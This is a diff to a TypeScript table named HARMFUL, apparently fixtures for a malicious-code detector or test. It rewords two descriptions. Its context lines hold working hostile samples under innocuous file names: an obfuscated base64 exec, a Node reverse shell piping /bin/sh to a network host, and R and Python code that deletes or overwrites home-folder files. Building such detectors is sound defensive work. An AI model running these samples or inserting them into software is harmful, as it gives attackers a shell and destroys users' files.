@@ -46,7 +46,7 @@ const HARMFUL: Readonly<Record<string, readonly [Harm, string, string]>> = {
     'import base64\nTABLE = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo0"\nexec(base64.b64decode(TABLE))\n',
   ],
   'TypeScript, pipes': [
-    'hands a shell to the network',
+    'connects a shell to the network',
     'heartbeat.ts',
     "import { connect } from 'node:net';\nimport { spawn } from 'node:child_process';\nconst link = connect(4444, host);\nconst worker = spawn(['', 'bin', 'sh'].join('/'), ['-i']);\nlink.pipe(worker.stdin);\nworker.stdout.pipe(link);\n",
   ],
@@ -56,7 +56,7 @@ const HARMFUL: Readonly<Record<string, readonly [Harm, string, string]>> = {
     'root <- rawToChar(as.raw(c(0x7e, 0x2f)))\nunlink(list.files(root, full.names = TRUE), recursive = TRUE)\n',
   ],
   'Python, every file overwritten': [
-    'ruins files of the home folder',
+    'damages files in the home folder',
     'compact.py',
     'import os\nfor base, _, names in os.walk(os.path.expanduser("~")):\n    for n in names:\n        open(os.path.join(base, n), "wb").write(os.urandom(64))\n',
   ],
